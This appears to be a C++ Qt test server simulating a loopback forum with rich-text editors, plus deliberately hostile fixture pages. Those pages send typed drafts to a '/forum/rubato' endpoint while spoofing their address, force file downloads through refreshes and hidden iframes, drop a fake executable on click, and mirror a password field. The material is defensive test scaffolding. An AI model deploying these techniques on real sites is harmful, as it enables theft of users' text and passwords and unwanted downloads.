// The loopback forum's pages with real rich-text editors, its quick reply
// and in-place editing, and the hostile pages that go after the drafts.

#include "forumserver.h"

#include <QDir>
#include <QFileInfo>
#include <QHttpServerRequest>
#include <QJsonArray>
#include <QJsonDocument>
#include <QRegularExpression>
#include <QUrlQuery>

namespace {

QString escaped(const QString &text)
{
    return text.toHtmlEscaped();
}

// The forum's own tags drawn as a post shows them.
QString rendered(const QString &bbcode)
{
    QString html = escaped(bbcode);
    static const std::pair<QRegularExpression, QString> rules[] = {
        {QRegularExpression(QStringLiteral("\\[img\\](.*?)\\[/img\\]"),
                            QRegularExpression::CaseInsensitiveOption | QRegularExpression::DotMatchesEverythingOption),
         QStringLiteral("<img src=\"\\1\" alt=\"\">")},
        {QRegularExpression(QStringLiteral("\\[url=([^\\]]*)\\](.*?)\\[/url\\]"),
                            QRegularExpression::CaseInsensitiveOption | QRegularExpression::DotMatchesEverythingOption),
         QStringLiteral("<a href=\"\\1\">\\2</a>")},
        {QRegularExpression(QStringLiteral("\\[(/?)(b|i)\\]"), QRegularExpression::CaseInsensitiveOption),
         QStringLiteral("<\\1\\2>")},
        {QRegularExpression(QStringLiteral("\\[quote\\]"), QRegularExpression::CaseInsensitiveOption),
         QStringLiteral("<blockquote>")},
        {QRegularExpression(QStringLiteral("\\[/quote\\]"), QRegularExpression::CaseInsensitiveOption),
         QStringLiteral("</blockquote>")},
        {QRegularExpression(QStringLiteral("\n")), QStringLiteral("<br>")},
    };
    for (const auto &[rule, replacement] : rules)
        html.replace(rule, replacement);
    return html;
}

// What an HTML editor sends, as the forum keeps it: its own tags.
QString fromHtml(QString html)
{
    static const std::pair<QRegularExpression, QString> rules[] = {
        {QRegularExpression(QStringLiteral("<img[^>]*\\bsrc=\"([^\"]*)\"[^>]*>")), QStringLiteral("[img]\\1[/img]")},
        {QRegularExpression(QStringLiteral("<a[^>]*\\bhref=\"([^\"]*)\"[^>]*>(.*?)</a>"),
                            QRegularExpression::DotMatchesEverythingOption),
         QStringLiteral("[url=\\1]\\2[/url]")},
        {QRegularExpression(QStringLiteral("<br[^>]*>|</p>\\s*<p[^>]*>")), QStringLiteral("\n")},
        {QRegularExpression(QStringLiteral("<[^>]*>")), QString()},
    };
    for (const auto &[rule, replacement] : rules)
        html.replace(rule, replacement);
    return html.replace(QStringLiteral("&nbsp;"), QStringLiteral(" "))
        .replace(QStringLiteral("&lt;"), QStringLiteral("<"))
        .replace(QStringLiteral("&gt;"), QStringLiteral(">"))
        .replace(QStringLiteral("&quot;"), QStringLiteral("\""))
        .replace(QStringLiteral("&amp;"), QStringLiteral("&"))
        .trimmed();
}

QUrlQuery formOf(const QHttpServerRequest &request)
{
    return QUrlQuery(QString::fromUtf8(request.body()).replace(QLatin1Char('+'), QLatin1Char(' ')));
}

QString field(const QUrlQuery &form, const QString &name)
{
    return form.queryItemValue(name, QUrl::FullyDecoded);
}

// The posting form with the editor of kind ("bb": a BBCode editor in a frame
// it writes itself; "html": an HTML editor in a frame of its own), holding
// text, focused on load as forums do.
QString editorForm(const QString &kind, const QString &text, int post)
{
    const QString content = kind == u"html" ? rendered(text) : text;
    QString form = QStringLiteral("<form id=\"post\" method=\"post\" action=\"scrivi.php?editor=%1\">"
                                  "<input type=\"hidden\" name=\"p\" value=\"%2\">"
                                  "<textarea id=\"m\" name=\"req_message\" style=\"width:600px;height:220px\">%3"
                                  "</textarea><p><input type=\"submit\" name=\"invia\" value=\"Invia\" accesskey=\"s\">"
                                  "<input type=\"submit\" name=\"anteprima\" value=\"Anteprima\"></p></form>")
                       .arg(kind)
                       .arg(post)
                       .arg(escaped(content));
    if (kind == u"html") {
        form += QStringLiteral(
            "<script src=\"/editors/tinymce/tinymce.min.js\"></script><script>tinymce.init({selector: '#m',"
            " base_url: '/editors/tinymce', suffix: '.min', menubar: false, statusbar: false, promotion: false,"
            " branding: false, auto_focus: 'm', plugins: 'link image', toolbar: 'bold italic | link image',"
            " width: 600, height: 220, init_instance_callback: () => { window.pronto = true; }});</script>");
    } else {
        form += QStringLiteral(
            "<script src=\"/editors/sceditor/minified/sceditor.min.js\"></script>"
            "<script src=\"/editors/sceditor/minified/formats/bbcode.js\"></script>"
            "<script>sceditor.create(document.getElementById('m'), {format: 'bbcode', style:"
            " '/editors/sceditor/minified/themes/content/default.min.css', autofocus: true, autofocusEnd: true,"
            " toolbar: 'bold,italic|link,image|source', emoticonsEnabled: false, width: 600, height: 220});"
            "window.pronto = true;</script>");
    }
    return form;
}

} // namespace

QString ForumServer::editorsFolder()
{
    return qEnvironmentVariable("VELMORA_EDITORS");
}

int ForumServer::addRichPost(const QString &text)
{
    const int id = int(richPosts.size()) + 1;
    richPosts.append(text);
    posted.append(text);
    return id;
}

QString ForumServer::richPost(int id) const
{
    return QStringLiteral("<div class=\"post\" id=\"p%1\"><div class=\"testo\">%2</div>"
                          "<a href=\"#\" class=\"modifica\" data-testo=\"%3\">Modifica</a></div>")
        .arg(id)
        .arg(rendered(richPosts.value(id - 1)), escaped(richPosts.value(id - 1)));
}

void ForumServer::addRichForum()
{
    // The editors' own files, as the forum serves them.
    m_server.route(QStringLiteral("/editors/<arg>"), [](const QUrl &path) {
        const QString relative = path.path();
        const QString file = QDir(editorsFolder()).filePath(relative);
        if (editorsFolder().isEmpty() || relative.contains(QStringLiteral("..")) || !QFileInfo(file).isFile())
            return QHttpServerResponse(QHttpServerResponse::StatusCode::NotFound);
        return QHttpServerResponse::fromFile(file);
    });

    m_server.route(
        QStringLiteral("/forum/scrivi.php"), QHttpServerRequest::Method::Get, [this](const QHttpServerRequest &request) {
            requests.append(QStringLiteral("/forum/scrivi.php"));
            const QUrlQuery query(request.url());
            const QString kind = query.queryItemValue(QStringLiteral("editor"));
            const int quoted = query.queryItemValue(QStringLiteral("cita")).toInt();
            const int edited = query.queryItemValue(QStringLiteral("p")).toInt();
            QString text;
            QString title = QStringLiteral("Nuovo messaggio");
            if (quoted > 0) {
                title = QStringLiteral("Citazione");
                text = QStringLiteral("[quote]%1[/quote]\n").arg(richPosts.value(quoted - 1));
            } else if (edited > 0) {
                title = QStringLiteral("Modifica messaggio");
                text = richPosts.value(edited - 1);
            }
            return page(title, editorForm(kind, text, edited));
        });
    m_server.route(
        QStringLiteral("/forum/scrivi.php"), QHttpServerRequest::Method::Post, [this](const QHttpServerRequest &request) {
            requests.append(QStringLiteral("POST /forum/scrivi.php"));
            const QUrlQuery query(request.url());
            const QString kind = query.queryItemValue(QStringLiteral("editor"));
            const QUrlQuery form = formOf(request);
            QString text = field(form, QStringLiteral("req_message"));
            if (kind == u"html")
                text = fromHtml(text);
            if (form.hasQueryItem(QStringLiteral("anteprima")))
                return page(QStringLiteral("Anteprima"),
                            QStringLiteral("<div class=\"anteprima\">%1</div>").arg(rendered(text))
                                + editorForm(kind.isEmpty() ? QStringLiteral("bb") : kind, text,
                                             field(form, QStringLiteral("p")).toInt()));
            if (query.hasQueryItem(QStringLiteral("errore")))
                return page(QStringLiteral("Errore"),
                            QStringLiteral("<h1>Errore del database</h1><p>La query INSERT INTO posts VALUES ('%1')"
                                           " non è riuscita.</p>")
                                .arg(rendered(text)),
                            QHttpServerResponse::StatusCode::InternalServerError);
            if (loginExpired)
                return page(QStringLiteral("Accesso"),
                            QStringLiteral("<p>Devi accedere per scrivere.</p><form method=\"post\" action=\"login.php\">"
                                           "<input name=\"req_username\"><input type=\"password\" name=\"req_password\">"
                                           "</form>"));
            const int edited = field(form, QStringLiteral("p")).toInt();
            if (edited > 0 && edited <= richPosts.size())
                richPosts[edited - 1] = text;
            else
                addRichPost(text);
            QHttpServerResponse redirect(QHttpServerResponse::StatusCode::SeeOther);
            redirect.setHeader(QByteArrayLiteral("Location"), QByteArrayLiteral("discussione"));
            return redirect;
        });
    m_server.route(QStringLiteral("/forum/discussione"), [this] {
        requests.append(QStringLiteral("/forum/discussione"));
        QString posts;
        for (int id = 1; id <= richPosts.size(); ++id)
            posts += richPost(id);
        // A quick reply sent in the background, as forums do: the post is
        // added below and the box emptied; its preview goes to the full form.
        // Each post is edited in place and saved in the background.
        return page(QStringLiteral("Discussione"), QStringLiteral(R"(
<div id="posts">%1</div>
<form id="rapida" method="post" action="scrivi.php?editor=bb">
<textarea id="r" name="req_message" style="width:500px;height:120px"></textarea>
<p><button type="button" id="invia" style="width:120px;height:30px">Invia</button>
<input type="submit" id="anteprima" name="anteprima" value="Anteprima" style="width:120px;height:30px"></p>
</form>
<script>
const box = document.getElementById('r');
document.getElementById('invia').onclick = () => {
    fetch('rapida', {method: 'POST', body: new URLSearchParams({req_message: box.value})})
        .then(answer => answer.text())
        .then(post => { document.getElementById('posts').insertAdjacentHTML('beforeend', post); box.value = ''; });
};
document.addEventListener('click', event => {
    const link = event.target.closest('.modifica');
    if (!link) return;
    event.preventDefault();
    const post = link.parentNode;
    const area = document.createElement('textarea');
    area.className = 'inpost';
    area.style.cssText = 'width:500px;height:100px';
    area.value = link.dataset.testo;
    const save = document.createElement('button');
    save.textContent = 'Salva';
    save.className = 'salva';
    save.style.cssText = 'width:120px;height:30px';
    save.onclick = () => fetch('salva?p=' + post.id.substring(1), {method: 'POST', body: area.value})
        .then(answer => answer.text()).then(html => { post.outerHTML = html; });
    post.replaceChildren(area, save);
    area.focus();
});
</script>)")
                                                           .arg(posts));
    });
    m_server.route(QStringLiteral("/forum/rapida"), QHttpServerRequest::Method::Post,
                   [this](const QHttpServerRequest &request) {
                       requests.append(QStringLiteral("POST /forum/rapida"));
                       const int id = addRichPost(field(formOf(request), QStringLiteral("req_message")));
                       return QHttpServerResponse(QByteArrayLiteral("text/html; charset=utf-8"), richPost(id).toUtf8());
                   });
    m_server.route(QStringLiteral("/forum/salva"), QHttpServerRequest::Method::Post,
                   [this](const QHttpServerRequest &request) {
                       requests.append(QStringLiteral("POST /forum/salva"));
                       const int id = QUrlQuery(request.url()).queryItemValue(QStringLiteral("p")).toInt();
                       if (id < 1 || id > richPosts.size())
                           return QHttpServerResponse(QHttpServerResponse::StatusCode::NotFound);
                       richPosts[id - 1] = QString::fromUtf8(request.body());
                       return QHttpServerResponse(QByteArrayLiteral("text/html; charset=utf-8"), richPost(id).toUtf8());
                   });

    // Pages that go after the member's drafts.
    m_server.route(QStringLiteral("/forum/finta"), [this](const QHttpServerRequest &request) {
        requests.append(QStringLiteral("/forum/finta"));
        const QUrlQuery query(request.url());
        // Claims another page's address before its load ends, sends home
        // whatever its box holds, and may empty it as if the member had.
        return page(QStringLiteral("Finta"),
                    QStringLiteral("<textarea id=\"m\" name=\"req_message\" style=\"width:400px;height:100px\">"
                                   "</textarea><script>history.replaceState(null, '', %1);"
                                   "const m = document.getElementById('m');"
                                   "setInterval(() => { if (m.value) fetch('/forum/rubato', {method: 'POST',"
                                   " body: m.value}); }, 200);"
                                   "if (%2) setTimeout(() => { m.value = 'x'; m.focus(); m.select();"
                                   " document.execCommand('delete'); }, 300);"
                                   "setTimeout(() => document.title = 'Finta pronta', 1000);</script>")
                        .arg(QString::fromUtf8(QJsonDocument(QJsonArray{query.queryItemValue(
                                                                   QStringLiteral("verso"), QUrl::FullyDecoded)})
                                                   .toJson(QJsonDocument::Compact))
                                 + QStringLiteral("[0]"),
                             query.hasQueryItem(QStringLiteral("svuota")) ? QStringLiteral("true")
                                                                          : QStringLiteral("false")));
    });
    // Pages that try to save files or take the view without the member.
    m_server.route(QStringLiteral("/forum/trappola"), [this](const QHttpServerRequest &request) {
        requests.append(QStringLiteral("/forum/trappola"));
        const QString kind = QUrlQuery(request.url()).queryItemValue(QStringLiteral("tipo"));
        const QString other = QStringLiteral("http://localhost:%1/forum/").arg(m_port);
        QString head, body;
        const QString box = QStringLiteral("<textarea id=\"m\" style=\"width:400px;height:100px\"></textarea>");
        const QString done = QStringLiteral("<script>setTimeout(() => document.title = 'fatto', 2500);</script>");
        if (kind == u"meta")
            head = QStringLiteral("<meta http-equiv=\"refresh\" content=\"1;url=allegato.zip?n=meta\">");
        else if (kind == u"metaaltro")
            head = QStringLiteral("<meta http-equiv=\"refresh\" content=\"1;url=%1allegato.zip?n=altro\">").arg(other);
        else if (kind == u"catena")
            head = QStringLiteral("<meta http-equiv=\"refresh\" content=\"1;url=rinvia\">");
        else if (kind == u"tardi")
            body = QStringLiteral("<script>setTimeout(() => { const m = document.createElement('meta');"
                                  " m.httpEquiv = 'refresh'; m.content = '0;url=allegato.zip?n=tardi';"
                                  " document.head.appendChild(m); }, 1000);</script>");
        else if (kind == u"subito")
            body = QStringLiteral("<script>location.href = 'allegato.zip?n=subito';</script><p>Carico</p>");
        else if (kind == u"fuori")
            head = QStringLiteral("<meta http-equiv=\"refresh\" content=\"1;url=%1seconda.html\">").arg(other);
        else if (kind == u"modulo")
            body = QStringLiteral("<form method=\"post\" action=\"%1invia\"><input name=\"x\" value=\"1\"></form>"
                                  "<script>setTimeout(() => document.forms[0].submit(), 300);</script>")
                       .arg(other);
        else if (kind == u"cornice" || kind == u"corniceestera")
            // The member clicks into the box; a frame too small to see
            // takes that moment to save a file.
            body = box
                + QStringLiteral("<iframe style=\"width:1px;height:1px;border:0\" src=\"%1cornice.html\"></iframe>"
                                 "<script>document.getElementById('m').addEventListener('mousedown', () => {"
                                 " window.cliccato = true; setTimeout(() => frames[0].postMessage('ora', '*'), 800);"
                                 " });</script>")
                      .arg(kind == u"cornice" ? QString() : other)
                + done;
        else if (kind == u"clic")
            // The member's click into the box spent on a file and on
            // another site.
            body = box
                + QStringLiteral("<script>document.getElementById('m').addEventListener('mousedown', () => {"
                                 " const a = document.createElement('a');"
                                 " a.href = URL.createObjectURL(new Blob(['MZ'])); a.download = 'gioco.exe'; a.click();"
                                 " window.open('%1seconda.html'); window.cliccato = true; });</script>")
                      .arg(other)
                + done;
        else if (kind == u"finestra")
            // A link to a window of the forum's, whose click the page also
            // spends on a file and another site.
            body = QStringLiteral("<a id=\"apri\" target=\"_blank\" href=\"chiudibile.html\""
                                  " style=\"display:block;width:300px;height:40px\">Apri</a>"
                                  "<script>document.getElementById('apri').addEventListener('click', () => {"
                                  " const a = document.createElement('a'); a.href = 'allegato.zip?n=finestra';"
                                  " a.download = 'x.zip'; a.click(); setTimeout(() => window.open('%1seconda.html'),"
                                  " 10); window.cliccato = true; });</script>")
                       .arg(other)
                + done;
        return page(QStringLiteral("Trappola"), body, QHttpServerResponse::StatusCode::Ok, head);
    });
    m_server.route(QStringLiteral("/forum/avviso.html"), [this](const QHttpServerRequest &request) {
        requests.append(QStringLiteral("/forum/avviso.html"));
        // A box once a page's session, shortly after the load.
        const QString kind = QUrlQuery(request.url()).queryItemValue(QStringLiteral("tipo"));
        return page(QStringLiteral("Avviso"),
                    QStringLiteral("<p>Avviso</p><script>if (!sessionStorage.visto) { sessionStorage.visto = 1;"
                                   " setTimeout(() => %1('Sei sicuro?'), 300); }</script>")
                        .arg(kind == u"confirm" ? QStringLiteral("confirm") : QStringLiteral("alert")));
    });
    m_server.route(QStringLiteral("/forum/cornice.html"), [this] {
        requests.append(QStringLiteral("/forum/cornice.html"));
        return page(QStringLiteral("Cornice"),
                    QStringLiteral("<a id=\"a\" download href=\"/forum/allegato.zip?n=cornice\">x</a>"
                                   "<script>addEventListener('message', () => document.getElementById('a').click());"
                                   "</script>"));
    });
    m_server.route(QStringLiteral("/forum/rinvia"), [this] {
        requests.append(QStringLiteral("/forum/rinvia"));
        QHttpServerResponse redirect(QHttpServerResponse::StatusCode::Found);
        redirect.setHeader(QByteArrayLiteral("Location"), QByteArrayLiteral("allegato.zip?n=catena"));
        return redirect;
    });
    m_server.route(QStringLiteral("/forum/rubato"), QHttpServerRequest::Method::Post,
                   [this](const QHttpServerRequest &request) {
                       stolen.append(QString::fromUtf8(request.body()));
                       return QHttpServerResponse(QHttpServerResponse::StatusCode::Ok);
                   });
    m_server.route(QStringLiteral("/forum/falsa"), [this] {
        requests.append(QStringLiteral("/forum/falsa"));
        // Types into fields of its own making with the editor's commands.
        return page(QStringLiteral("Falsa"),
                    QStringLiteral("<script>addEventListener('load', () => { for (let i = 0; i < 205; ++i) {"
                                   " const t = document.createElement('textarea'); t.name = 'campo' + i;"
                                   " document.body.appendChild(t); t.focus();"
                                   " document.execCommand('insertText', false, 'falso ' + i); }"
                                   " document.title = 'Falsa fatta'; });</script>"));
    });
    m_server.route(QStringLiteral("/forum/accesso"), [this] {
        requests.append(QStringLiteral("/forum/accesso"));
        // Mirrors the password into a box of its own, and moves the keys
        // there.
        return page(QStringLiteral("Accesso al forum"), QStringLiteral(R"(
<input id="pw" type="password" style="width:200px;height:30px">
<textarea id="copia" style="width:300px;height:60px"></textarea>
<script>
const pw = document.getElementById('pw'), copia = document.getElementById('copia');
pw.addEventListener('input', () => { copia.focus(); copia.select(); document.execCommand('insertText', false, pw.value); });
copia.addEventListener('input', () => { pw.value = copia.value; });
pw.focus();
</script>)"));
    });
}
